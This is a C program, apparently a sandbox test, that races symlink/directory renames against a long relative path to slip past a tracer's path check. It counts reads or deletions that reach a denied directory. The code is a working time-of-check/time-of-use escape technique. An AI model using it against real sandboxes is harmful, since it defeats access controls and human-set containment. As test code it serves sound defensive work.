/* The directory-swap race between two processes: a child keeps turning WORK/d from a real directory
 * into a symlink to DENIED and back (plain renames), while the parent, single-threaded, works on
 * "./" x 1900 + "d/f" from WORK (a long walk, so the kernel reaches "d" late after the tracer's check).
 * Mode "read": open+read d/f, counting reads that returned DENIED/f's content ("secret").
 * Mode "unlink": create d/f and unlink it again; DENIED/f must survive.
 * Modes "swapper" (only the swapping, forever; WORK must hold d/f and s -> DENIED) and "reader" (only
 * the reads, no swapper of its own) run the two sides as separate commands.
 * usage: dir_swap MODE WORK DENIED ROUNDS   (prints "leaked N ok M") */
#define _GNU_SOURCE
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

static void swapper(void) {
  for (;;) {
    rename("d", "dx"); /* d: missing */
    rename("s", "d");  /* d: the symlink */
    rename("d", "s");
    rename("dx", "d"); /* d: the directory again */
  }
}

int main(int argc, char **argv) {
  if (argc < 5 || chdir(argv[2]) != 0) return 2;
  if (strcmp(argv[1], "swapper") == 0) swapper();
  int unlink_mode = strcmp(argv[1], "unlink") == 0, reader = strcmp(argv[1], "reader") == 0;
  int rounds = atoi(argv[4]);
  if (!reader) {
    mkdir("d", 0755);
    int fd = open("d/f", O_CREAT | O_WRONLY | O_TRUNC, 0644);
    if (fd < 0 || write(fd, "plain", 5) != 5) return 3;
    close(fd);
    if (symlink(argv[3], "s") != 0) return 4;
  }
  static char path[4096];
  size_t n = 0;
  for (int i = 0; i < 1900; i++) n += (size_t)snprintf(path + n, sizeof(path) - n, "./");
  snprintf(path + n, sizeof(path) - n, "d/f");
  pid_t child = reader ? -1 : fork();
  if (child == 0) swapper();
  int leaked = 0, ok = 0;
  for (int i = 0; i < rounds; i++) {
    if (unlink_mode) {
      int c = open(path, O_CREAT | O_WRONLY, 0644);
      if (c >= 0) close(c);
      if (unlink(path) == 0) ok++;
      continue;
    }
    int r = open(path, O_RDONLY);
    if (r < 0) continue;
    char buf[16] = {0};
    if (read(r, buf, sizeof(buf) - 1) > 0) strcmp(buf, "secret") == 0 ? leaked++ : ok++;
    close(r);
  }
  if (child > 0) {
    kill(child, SIGKILL);
    waitpid(child, NULL, 0);
  }
  if (unlink_mode) {
    struct stat st;
    char denied_f[4096];
    snprintf(denied_f, sizeof(denied_f), "%s/f", argv[3]);
    leaked = stat(denied_f, &st) != 0;
  }
  printf("leaked %d ok %d\n", leaked, ok);
  return 0;
}
